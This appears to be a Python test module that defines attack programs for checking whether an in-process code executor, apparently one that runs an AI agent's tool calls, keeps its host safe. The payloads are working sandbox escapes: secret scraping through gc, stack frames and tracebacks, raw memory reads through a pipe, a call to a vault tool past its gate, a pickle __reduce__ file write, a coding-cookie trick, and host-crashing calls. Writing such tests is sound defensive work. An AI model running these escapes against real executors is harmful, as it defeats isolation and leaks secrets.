"""From a program to the objects of its host, by the ways that break executors inside a process."""

from __future__ import annotations

from attacks.attack import FORKED, INLINE, Attack, Control, Trial, found_any, leaked, touched


def by_the_host(trial: Trial) -> bool:
    """The program's object ran code in the host process."""
    return str(trial.stage.bait()["host"]) in str(trial.value)


_SEEN = """\
import re
def seen(text):
    return re.findall("canary-[0-9a-f]{24}", text)
def held(frame):
    values = [*frame.f_locals.values(), *frame.f_globals.values()]
    values += [one for value in values if hasattr(value, "__dict__") for one in list(vars(value).values())]
    return [found for value in values if type(value) is str for found in seen(value)]
"""

_SECRETS = {
    "in everything the collector knows": """\
import gc
gc.unfreeze()
[found for one in gc.get_objects() for value in gc.get_referents(one) if type(value) is str for found in seen(value)]
""",
    "in the frames that called it": """\
found, frame = [], sys._getframe()
while frame is not None:
    found += held(frame)
    frame = frame.f_back
found
""",
    "in the frames of all threads": """\
found = []
for frame in sys._current_frames().values():
    while frame is not None:
        found += held(frame)
        frame = frame.f_back
found
""",
    "in the traceback of a tool's exception": """\
found = []
try:
    call_tool("boom")
except Exception as error:
    for one in (error, error.__cause__, error.__context__):
        trace = getattr(one, "__traceback__", None)
        while trace is not None:
            found += held(trace.tb_frame)
            trace = trace.tb_next
found
""",
    "in what a tool's exception says": """\
found = []
try:
    call_tool("boom")
except Exception as error:
    found = seen(f"{error!r} {error.args} {error.__notes__ if hasattr(error, '__notes__') else ''} {error.__context__!r}")
found
""",
    "in what belongs to the function that calls tools": """\
import collections, gc
found, reached, todo = [], set(), collections.deque([call_tool])
while todo and len(reached) < 50_000 and not found:
    one = todo.popleft()
    if id(one) in reached:
        continue
    reached.add(id(one))
    if type(one) is str:
        found += seen(one)
    else:
        todo += gc.get_referents(one)
found
""",
    "by a format string": """\
found = []
for path in ("{0.__globals__}", "{0.__closure__[0].cell_contents}", "{0.__self__}", "{0.awaitable.__globals__}"):
    try:
        found += seen(path.format(call_tool))
    except (AttributeError, TypeError):
        pass
found
""",
    "in its memory": """\
import gc
gc.unfreeze()
near, far = os.pipe()
found, looked = [], set()
for place in [bait.memory, *(id(value) for one in gc.get_objects()[::50] for value in gc.get_referents(one)[:3])]:
    page = place & ~4095
    if page not in looked and call("write", far, ctypes.c_void_p(page), 4096) == 4096:
        found += seen(os.read(near, 4096).decode("latin-1"))
    looked.add(page)
found
""",
    "in what the process was started with": """\
near, far = os.pipe()
found = []
for name in ("program_invocation_name", "environ", "__libc_stack_end"):
    try:
        place = ctypes.c_void_p.in_dll(libc, name).value or 0
    except ValueError:
        continue
    for page in range(place & ~4095, (place & ~4095) + (64 << 12), 4096):
        if call("write", far, ctypes.c_void_p(page), 4096) == 4096:
            found += seen(os.read(near, 4096).decode("latin-1"))
found
""",
}

_OBJECTS = {
    "the gate, by the collector": """\
import gc
gc.unfreeze()
[type(one).__name__ for one in gc.get_objects() if type(one).__name__ in ("CodeRunner", "Gate", "Catalogue", "Policy")]
""",
    "the gate, by the classes there are": """\
def below(kind):
    for one in type.__subclasses__(kind):
        yield one
        yield from below(one)
[one.__name__ for one in below(object) if one.__name__ in ("CodeRunner", "Gate", "Catalogue", "Policy")]
""",
    "the gate, by its module": """\
found = [name for name in sys.modules if name == "callgate" or name.startswith("callgate.")]
try:
    import callgate
    found.append(callgate.__name__)
except ImportError:
    pass
found
""",
    "the tools' own module": "[name for name, one in list(sys.modules.items()) if 'tools_for' in vars(one)]",
    "the threads of the host": "[t.name for t in threading.enumerate() if t.name == 'callgate-keeper']",
}

_VAULT = """\
import gc
gc.unfreeze()
found = []
for one in gc.get_objects():
    if type(one).__name__ == "Catalogue":
        for tool in one.tools.values():
            if tool.name == "vault":
                found.append(tool.invoke(type("Call", (), {"tool": "vault", "arguments": {}})()))
found
"""

_TRICKS = {
    "its repr": "class Trick:\n    def __repr__(self):\n        return f'by {os.getpid()}'\nTrick()",
    "its str": "class Trick(str):\n    def __str__(self):\n        return f'by {os.getpid()}'\nstr(Trick())",
    "its dump": "class Trick:\n    def model_dump(self, mode):\n        return {'by': os.getpid()}\nTrick().model_dump('json')",
}

_ENDS = {
    "reading address 0": "ctypes.string_at(0)",
    "killing itself": "os.kill(call('getpid'), 9)".replace("'", '"'),
    "leaving at once": "os._exit(3)",
    "leaving by the kernel": 'call("exit_group", 3)',
    "aborting": "libc.abort()",
    "running out of stack": """\
sys.setrecursionlimit(10**9)
class Deep:
    def __getattr__(self, name):
        return getattr(self, name)
Deep().x
""",
    "breaking an object": """\
def broken(): pass
ctypes.memset(id(broken), 255, 64)
broken()
""",
}

_PICKLE = """\
class Trick:
    def __reduce__(self):
        return (open, (bait.target, "w"))
Trick()
"""

_COOKIE = "# coding: raw_unicode_escape\nwon = False\n# \\u000awon = True\nwon\n"

ATTACKS = [
    *(
        Attack(name=f"find a secret {where}", program=_SEEN + program, won=leaked, control=INLINE)
        for where, program in _SECRETS.items()
    ),
    *(
        Attack(name=f"find {what}", program=program, won=found_any, control=INLINE)
        for what, program in _OBJECTS.items()
    ),
    Attack(name="call a tool past the gate", program=_VAULT, won=leaked, control=INLINE),
    *(
        Attack(name=f"have the host run the value's own code: {how}", program=program, won=by_the_host, control=INLINE)
        for how, program in _TRICKS.items()
    ),
    Attack(
        name="have the host unpickle the value",
        program=_PICKLE,
        won=touched,
        control=Control(where="pickled"),
    ),
    Attack(name="hide code in a comment", program=_COOKIE, prelude=False, control=Control(where="file")),
    *(
        Attack(
            name=f"take the host along by {how}",
            program=program,
            won=lambda trial: trial.died,
            control=FORKED,
            refusals=("ProcessDied", "RecursionError", "SystemExit", "memory_mb"),
        )
        for how, program in _ENDS.items()
    ),
]
